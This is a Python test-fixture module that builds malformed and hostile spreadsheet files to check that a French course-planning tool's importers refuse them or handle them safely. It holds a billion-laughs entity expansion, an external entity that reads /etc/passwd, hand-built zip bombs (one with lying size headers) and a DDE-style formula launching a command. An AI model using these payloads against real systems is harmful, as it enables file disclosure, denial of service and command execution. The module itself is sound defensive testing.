"""Hostile files for every importer's tests: each builder writes one file into a folder and returns its path.

An importer's test picks a `Layout` (its header and one good row) and runs every case of `CASES`:

    for case in CASES:
        path = case.build(tmp_path, PLANNING)
        result = run_bounded([... "import-planning", str(path), ...])
        assert_refused_or_safe(case, result, before, after)

`must_refuse` cases (not a spreadsheet, damaged, bombs) must be refused whole with one clear
French line and nothing changed; the others (formulas, control characters, merged cells,
a million rows) may be read, but never crash, and nothing is half-written.
Files are built by hand where a library would be too slow or too polite: the sheet XML of a
million rows is streamed into the zip, the zip bomb is a deflate block repeated.
"""

from __future__ import annotations

import datetime as dt
import os
import resource
import struct
import subprocess
import sys
import zipfile
import zlib
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

ROOT = Path(__file__).resolve().parent.parent


@dataclass(frozen=True)
class Layout:
    """An importer's columns and one row it accepts."""

    name: str
    header: tuple[str, ...]
    row: tuple[Any, ...]

    def rows(self, count: int) -> Iterator[tuple[Any, ...]]:
        for _ in range(count):
            yield self.row


class Formula(str):
    """A cell written as a formula (`<f>`), not as text."""


PLANNING = Layout(
    "planning",
    ("Code UE", "Intitulé", "Date", "Début", "Fin", "Salle", "Centre"),
    ("NFA031", "Programmation avec Java", "22/01/2024", "18h00", "21h00", "Amphi Abbé-Grégoire", "Paris"),
)
ENROLMENTS = Layout(
    "inscriptions",
    ("Numéro d'auditeur", "Nom", "Prénom", "Email", "Code UE"),
    ("10023000", "Lefèvre-Dupré", "Zoë", "zoe@exemple.fr", "NFA031"),
)
REQUESTS = Layout(
    "demandes",
    ("ID", "Heure de début", "Heure de fin", "Adresse de messagerie", "Nom",
     "Numéro d'auditeur", "Motif de la demande", "UE concernées"),
    ("1", "05/01/2024 10:00:00", "05/01/2024 10:05:00", "zoe@exemple.fr", "Zoë Lefèvre-Dupré",
     "10023000", "Deux examens le même jour à la même heure", "NFA031, NFA008"),
)
GRADES = Layout(
    "notes",
    ("Numéro d'auditeur", "Nom", "Prénom", "Note"),
    ("10023000", "Lefèvre-Dupré", "Zoë", "12,5"),
)
LAYOUTS = {layout.name: layout for layout in (PLANNING, ENROLMENTS, REQUESTS, GRADES)}


# --- a small xlsx writer that streams ------------------------------------------------------------


def column_letter(index: int) -> str:
    letters = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def _excel_escape(text: str) -> str:
    # Excel writes the control characters XML 1.0 forbids as _xHHHH_.
    out = []
    for char in text:
        code = ord(char)
        if code < 0x20 and char not in "\t\n\r" or 0xFFFE <= code <= 0xFFFF:
            out.append(f"_x{code:04X}_")
        else:
            out.append(char)
    return escape("".join(out))


def _cell(ref: str, value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, Formula):
        return f'<c r="{ref}"><f>{escape(str(value).lstrip("="))}</f></c>'
    if isinstance(value, bool):
        return f'<c r="{ref}" t="b"><v>{int(value)}</v></c>'
    if isinstance(value, int | float):
        return f'<c r="{ref}"><v>{value!r}</v></c>'
    if isinstance(value, dt.datetime | dt.date):
        base = dt.datetime(1899, 12, 30)
        moment = value if isinstance(value, dt.datetime) else dt.datetime.combine(value, dt.time())
        serial = (moment - base).total_seconds() / 86400
        return f'<c r="{ref}" s="1"><v>{serial!r}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{_excel_escape(str(value))}</t></is></c>'


CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>'
    "{sheets}</Types>"
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
STYLES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<numFmts count="1"><numFmt numFmtId="164" formatCode="dd/mm/yyyy"/></numFmts>'
    '<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
    '<fills count="1"><fill><patternFill patternType="none"/></fill></fills>'
    '<borders count="1"><border/></borders>'
    '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
    '<cellXfs count="2"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
    '<xf numFmtId="164" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/></cellXfs>'
    '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles>'
    "</styleSheet>"
)
SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'


def _workbook(names: Sequence[str]) -> str:
    sheets = "".join(f'<sheet name="{escape(n)}" sheetId="{i + 1}" r:id="rId{i + 1}"/>' for i, n in enumerate(names))
    return f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook {NS}><sheets>{sheets}</sheets></workbook>'


def _workbook_rels(count: int) -> str:
    rels = "".join(
        f'<Relationship Id="rId{i + 1}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
        f'Target="worksheets/sheet{i + 1}.xml"/>'
        for i in range(count)
    )
    styles = (
        f'<Relationship Id="rId{count + 1}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" '
        'Target="styles.xml"/>'
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rels}{styles}</Relationships>'
    )


def _sheet_xml(rows: Iterable[Sequence[Any]], merged: Sequence[str] = (), doctype: str = "") -> Iterator[str]:
    yield f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{doctype}<worksheet {NS}><sheetData>'
    buffer: list[str] = []
    last: Sequence[Any] | None = None
    parts: list[str] = []
    for number, row in enumerate(rows, start=1):
        if row is not last:
            # Rendered once with a marker for the row number, then reused while the same row repeats.
            cells = "".join(_cell(f"{column_letter(i)}\x00", v) for i, v in enumerate(row))
            parts = f'<row r="\x00">{cells}</row>'.split("\x00")
            last = row
        buffer.append(str(number).join(parts))
        if len(buffer) >= 2000:
            yield "".join(buffer)
            buffer.clear()
    yield "".join(buffer)
    yield "</sheetData>"
    if merged:
        yield f'<mergeCells count="{len(merged)}">' + "".join(f'<mergeCell ref="{m}"/>' for m in merged) + "</mergeCells>"
    yield "</worksheet>"


def write_xlsx(
    path: Path,
    sheets: dict[str, Iterable[Sequence[Any]]],
    *,
    merged: dict[str, Sequence[str]] | None = None,
    doctype: str = "",
    compresslevel: int = 1,
) -> Path:
    """A real xlsx, written row by row (a million rows in seconds, in little memory)."""
    names = list(sheets)
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=compresslevel) as archive:
        overrides = "".join(
            f'<Override PartName="/xl/worksheets/sheet{i + 1}.xml" ContentType="{SHEET_TYPE}"/>' for i in range(len(names))
        )
        archive.writestr("[Content_Types].xml", CONTENT_TYPES.format(sheets=overrides))
        archive.writestr("_rels/.rels", ROOT_RELS)
        archive.writestr("xl/workbook.xml", _workbook(names))
        archive.writestr("xl/_rels/workbook.xml.rels", _workbook_rels(len(names)))
        archive.writestr("xl/styles.xml", STYLES)
        for index, name in enumerate(names):
            with archive.open(f"xl/worksheets/sheet{index + 1}.xml", "w", force_zip64=True) as member:
                for part in _sheet_xml(sheets[name], (merged or {}).get(name, ()), doctype):
                    member.write(part.encode("utf-8"))
    return path


def _good(layout: Layout, rows: int = 3) -> list[Sequence[Any]]:
    return [layout.header, *layout.rows(rows)]


# --- files that are not what they say -------------------------------------------------------------


def not_a_zip(folder: Path, layout: Layout) -> Path:
    path = folder / f"{layout.name}.xlsx"
    path.write_text("Code UE;Date\nNFA031;22/01/2024\n" * 50, encoding="utf-8")
    return path


def empty(folder: Path, layout: Layout) -> Path:
    path = folder / f"{layout.name}-vide.xlsx"
    path.write_bytes(b"")
    return path


def truncated(folder: Path, layout: Layout) -> Path:
    whole = write_xlsx(folder / "entier.xlsx", {"Feuil1": _good(layout, 200)})
    data = whole.read_bytes()
    whole.unlink()
    path = folder / f"{layout.name}-tronque.xlsx"
    path.write_bytes(data[: len(data) * 6 // 10])
    return path


def xls_renamed(folder: Path, layout: Layout) -> Path:
    """A genuine Excel 97-2003 file under an .xlsx name."""
    import xlwt

    book = xlwt.Workbook(encoding="utf-8")
    sheet = book.add_sheet("Feuil1")
    for r, row in enumerate(_good(layout)):
        for c, value in enumerate(row):
            sheet.write(r, c, value)
    path = folder / f"{layout.name}-xls.xlsx"
    book.save(str(path))
    return path


def pdf_renamed(folder: Path, layout: Layout) -> Path:
    from reportlab.pdfgen import canvas

    path = folder / f"{layout.name}-pdf.xlsx"
    page = canvas.Canvas(str(path))
    page.drawString(72, 720, " | ".join(layout.header))
    page.save()
    return path


def html_renamed(folder: Path, layout: Layout) -> Path:
    """What many web applications call "export Excel": an HTML table named .xls."""
    cells = "".join(f"<tr>{''.join(f'<td>{escape(str(v))}</td>' for v in row)}</tr>" for row in _good(layout))
    path = folder / f"{layout.name}-html.xls"
    path.write_text(f"<html><body><table>{cells}</table></body></html>", encoding="utf-8")
    return path


def ole_not_a_workbook(folder: Path, layout: Layout) -> Path:
    """The compound-file signature (as a password-protected xlsx has) followed by nothing sensible."""
    path = folder / f"{layout.name}-ole.xlsx"
    path.write_bytes(bytes.fromhex("D0CF11E0A1B11AE1") + bytes(range(256)) * 40)
    return path


# --- XML attacks ----------------------------------------------------------------------------------

LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
    + "]>"
)


def billion_laughs(folder: Path, layout: Layout) -> Path:
    rows = [layout.header, tuple(layout.row[:1]) + ("&lol9;",) + tuple(layout.row[2:])]
    path = write_xlsx(folder / f"{layout.name}-laughs.xlsx", {"Feuil1": rows}, doctype=LAUGHS)
    # The entity reference must stay a reference, not escaped text.
    return _replace_in_member(path, "xl/worksheets/sheet1.xml", b"&amp;lol9;", b"&lol9;")


def external_entity(folder: Path, layout: Layout) -> Path:
    doctype = '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    rows = [layout.header, tuple(layout.row[:1]) + ("&xxe;",) + tuple(layout.row[2:])]
    path = write_xlsx(folder / f"{layout.name}-xxe.xlsx", {"Feuil1": rows}, doctype=doctype)
    return _replace_in_member(path, "xl/worksheets/sheet1.xml", b"&amp;xxe;", b"&xxe;")


def _replace_in_member(path: Path, member: str, old: bytes, new: bytes) -> Path:
    with zipfile.ZipFile(path) as archive:
        contents = {info.filename: archive.read(info) for info in archive.infolist()}
    contents[member] = contents[member].replace(old, new)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in contents.items():
            archive.writestr(name, data)
    return path


# --- zip bombs ------------------------------------------------------------------------------------

_CHUNK = 1 << 20


def _repeated_deflate(chunk: bytes, count: int) -> bytes:
    """A raw deflate stream of `chunk` repeated `count` times, built from one compressed block.

    After a full flush the compressor forgets everything, so each repetition compresses to the same bytes.
    """
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    tail = zlib.compressobj(9, zlib.DEFLATED, -15).flush(zlib.Z_FINISH)
    return block * count + tail


def _write_zip(path: Path, members: list[tuple[str, bytes, int, int]]) -> Path:
    """A zip written by hand: (name, deflated data, crc, declared uncompressed size) per member."""
    central = b""
    with path.open("wb") as out:
        for name, data, crc, size in members:
            encoded = name.encode("utf-8")
            offset = out.tell()
            out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(data), size, len(encoded), 0))
            out.write(encoded)
            out.write(data)
            central += struct.pack(
                "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(data), size, len(encoded), 0, 0, 0, 0, 0, offset
            ) + encoded
        start = out.tell()
        out.write(central)
        out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), start, 0))
    return path


def _small(name: str, text: str) -> tuple[str, bytes, int, int]:
    raw = text.encode("utf-8")
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return name, compressor.compress(raw) + compressor.flush(), zlib.crc32(raw), len(raw)


def zip_bomb(folder: Path, layout: Layout, gigabytes: float = 2.0, *, lying: bool = False) -> Path:
    """An xlsx of a few megabytes whose sheet unpacks to `gigabytes` of blanks inside <sheetData>.

    lying=True: the zip's headers declare 10 kB for that sheet, as a bomb made to slip past a size check.
    """
    count = int(gigabytes * 1024)
    head = f'<?xml version="1.0" encoding="UTF-8"?><worksheet {NS}><sheetData>'.encode()
    chunk = b" " * _CHUNK
    # The sheet's opening tags go first as a stored block of their own, so the member stays valid deflate.
    data = b"\x00" + struct.pack("<HH", len(head), len(head) ^ 0xFFFF) + head + _repeated_deflate(chunk, count)
    crc = zlib.crc32(head)
    for _ in range(count):
        crc = zlib.crc32(chunk, crc)
    size = len(head) + count * _CHUNK
    members = [
        _small("[Content_Types].xml", CONTENT_TYPES.format(sheets=f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{SHEET_TYPE}"/>')),
        _small("_rels/.rels", ROOT_RELS),
        _small("xl/workbook.xml", _workbook(["Feuil1"])),
        _small("xl/_rels/workbook.xml.rels", _workbook_rels(1)),
        _small("xl/styles.xml", STYLES),
        ("xl/worksheets/sheet1.xml", data, crc, 10_000 if lying else size & 0xFFFFFFFF),
    ]
    name = f"{layout.name}-bombe{'-menteuse' if lying else ''}.xlsx"
    return _write_zip(folder / name, members)


def zip_bomb_lying(folder: Path, layout: Layout) -> Path:
    return zip_bomb(folder, layout, lying=True)


# --- big, odd and tricky content ------------------------------------------------------------------


def million_rows(folder: Path, layout: Layout, rows: int = 1_000_000) -> Path:
    """A header and `rows` good rows: an importer must refuse it or read it within its limits."""
    return write_xlsx(folder / f"{layout.name}-million.xlsx", {"Feuil1": [layout.header, *layout.rows(rows)]})


CONTROL_TEXTS = [
    "NFA\x00031", "Nom\x07avec\x1bcontrôle", "Zoë\u200bLefèvre", "\u202eesrever\u202c", "tab\tet\nsaut",
    "\ufeffBOM", "espace\u00a0insécable", "x" * 32767, "😀 émoji", "\x0b\x0c", "R&D <Admin> \"guillemets\"",
]


def control_characters(folder: Path, layout: Layout) -> Path:
    rows: list[Sequence[Any]] = [layout.header]
    for text in CONTROL_TEXTS:
        for column in range(len(layout.header)):
            row = list(layout.row)
            row[column] = text
            rows.append(row)
    return write_xlsx(folder / f"{layout.name}-controle.xlsx", {"Feuil1": rows})


FORMULA_TEXTS = [
    Formula("=1+1"), Formula('=HYPERLINK("http://exemple.invalid/?"&A1,"clic")'), Formula("=cmd|' /C calc'!A0"),
    "=SOMME(A1:A2)", "+33 1 40 27 20 00", "-2", "@SUM(1)", Formula("=1/0"), Formula("=A1"),
]


def formulas(folder: Path, layout: Layout) -> Path:
    """Real formulas (no cached value) and text that looks like one, in every column in turn."""
    rows: list[Sequence[Any]] = [layout.header]
    for text in FORMULA_TEXTS:
        for column in range(len(layout.header)):
            row = list(layout.row)
            row[column] = text
            rows.append(row)
    return write_xlsx(folder / f"{layout.name}-formules.xlsx", {"Feuil1": rows})


def merged_cells(folder: Path, layout: Layout) -> Path:
    """A merged title over the header, a merged header cell, and data merged down two rows."""
    width = len(layout.header)
    last = column_letter(width - 1)
    rows: list[Sequence[Any]] = [
        ("Planning des examens – session 1",) + (None,) * (width - 1),
        layout.header,
        layout.row,
        (None,) + tuple(layout.row[1:]),
        layout.row,
    ]
    merged = [f"A1:{last}1", "B2:C2", "A3:A4"]
    return write_xlsx(folder / f"{layout.name}-fusion.xlsx", {"Feuil1": rows}, merged={"Feuil1": merged})


def many_sheets(folder: Path, layout: Layout, sheets: int = 300) -> Path:
    return write_xlsx(folder / f"{layout.name}-feuilles.xlsx", {f"Feuil{i}": _good(layout, 2) for i in range(sheets)})


def header_only(folder: Path, layout: Layout) -> Path:
    return write_xlsx(folder / f"{layout.name}-entete.xlsx", {"Feuil1": [layout.header]})


# --- the catalogue --------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[Path, Layout], Path]
    must_refuse: bool  # refused whole, one French line, nothing changed
    slow: bool = False


CASES = [
    Case("pas-un-zip", not_a_zip, True),
    Case("vide", empty, True),
    Case("tronque", truncated, True),
    Case("xls-renomme", xls_renamed, False),  # a reader may read it as the .xls it is
    Case("pdf-renomme", pdf_renamed, True),
    Case("html-renomme", html_renamed, True),
    Case("ole", ole_not_a_workbook, True),
    Case("billion-laughs", billion_laughs, True),
    Case("entite-externe", external_entity, True),
    Case("bombe", zip_bomb, True),
    Case("bombe-menteuse", zip_bomb_lying, True),
    Case("million-lignes", million_rows, False, slow=True),
    Case("caracteres-de-controle", control_characters, False),
    Case("formules", formulas, False),
    Case("cellules-fusionnees", merged_cells, False),
    Case("trois-cents-feuilles", many_sheets, False),
    Case("entete-seul", header_only, False),
]
CASE_NAMES = [case.name for case in CASES]


def _params():  # type: ignore[no-untyped-def]
    import pytest

    return [pytest.param(case, id=case.name, marks=[pytest.mark.slow] if case.slow else []) for case in CASES]


PARAMS = _params()


# --- running an importer on them ------------------------------------------------------------------

MEMORY_LIMIT_MB = 1500
TIME_LIMIT_S = 60
MAX_LINE = 1000


@dataclass
class Bounded:
    code: int | None  # None: killed for time
    out: str
    err: str
    seconds: float


def run_bounded(argv: Sequence[str], env: dict[str, str], *, memory_mb: int = MEMORY_LIMIT_MB,
                timeout: float = TIME_LIMIT_S) -> Bounded:
    """`python -m cnam_desk ARGV` with a memory ceiling (address space) and a time limit."""
    import time

    def limit() -> None:
        size = memory_mb * 1024 * 1024
        resource.setrlimit(resource.RLIMIT_AS, (size, size))

    began = time.monotonic()
    process = subprocess.Popen(
        [sys.executable, "-m", "cnam_desk", *argv], env=dict(os.environ) | {"PYTHONPATH": str(ROOT)} | env,
        cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, preexec_fn=limit,
    )
    try:
        out, err = process.communicate(timeout=timeout)
        code: int | None = process.returncode
    except subprocess.TimeoutExpired:
        process.kill()
        out, err = process.communicate()
        code = None
    return Bounded(code, out, err, time.monotonic() - began)


def assert_handled(case: Case, result: Bounded, unchanged: bool, file_name: str = "") -> None:
    """What every importer owes every hostile file.

    Refused: one French line "cnam-desk : ..." (first or last); any other line (one per row in error)
    names the file; no line so long a clerk cannot read it (a cell's value is quoted cut short).
    """
    assert result.code is not None, f"{case.name}: still running after {TIME_LIMIT_S}s"
    assert "Traceback" not in result.err and result.code != 3, f"{case.name}: crashed: {result.err[-2000:]}"
    assert result.code in (0, 1), f"{case.name}: exit {result.code}: {result.err}"
    if case.must_refuse:
        assert result.code == 1, f"{case.name}: accepted: {result.out[:500]}"
    if result.code == 1:
        problems = refusal_problems(result.err, file_name)
        assert not problems, f"{case.name}: {problems}"
        assert unchanged, f"{case.name}: refused, but the database changed"


def refusal_problems(err: str, file_name: str = "") -> list[str]:
    """What is wrong with a refusal's stderr (empty when it is what a clerk should read)."""
    lines = [line for line in err.splitlines() if line.strip() and "attention" not in line]
    problems = []
    if not any(line.startswith("cnam-desk : ") for line in lines):
        problems.append(f"no « cnam-desk : » line: {err[:500]}")
    for line in lines:
        if not (line.startswith("cnam-desk : ") or (file_name and file_name in line)):
            problems.append(f"a line that names no file: {line[:300]}")
        if len(line) > MAX_LINE:
            problems.append(f"a line of {len(line)} characters: {line[:300]}…")
    return problems


# --- property-based: random cells in an importer's columns ----------------------------------------


def cell_values():  # type: ignore[no-untyped-def]
    """Hypothesis strategy: what a cell of a real-world file may hold, good and bad."""
    from hypothesis import strategies as st

    return st.one_of(
        st.none(),
        st.text(max_size=30),
        st.integers(min_value=-10**6, max_value=10**12),
        st.floats(allow_nan=True, allow_infinity=True),
        st.dates(min_value=dt.date(1900, 3, 1), max_value=dt.date(2100, 1, 1)),
        st.booleans(),
        st.sampled_from(
            [*FORMULA_TEXTS, *CONTROL_TEXTS[:7], "12,5", "12.555", "abi", "ABJ", "20.001", "-0", "18h", "25h61",
             "22/01/2024", "31/02/2024", "lundi 22 janvier 2024", "NFA031", "nfa031 ", "", " ", "\u00a0"]
        ),
    )


def sheets_for(layout: Layout):  # type: ignore[no-untyped-def]
    """Hypothesis strategy: a sheet with the layout's header and rows mixing its good row with random cells."""
    from hypothesis import strategies as st

    width = len(layout.header)
    row = st.lists(st.one_of(cell_values(), st.sampled_from(layout.row)), min_size=0, max_size=width + 2)
    return st.lists(row, min_size=0, max_size=12).map(lambda rows: [list(layout.header), *rows])
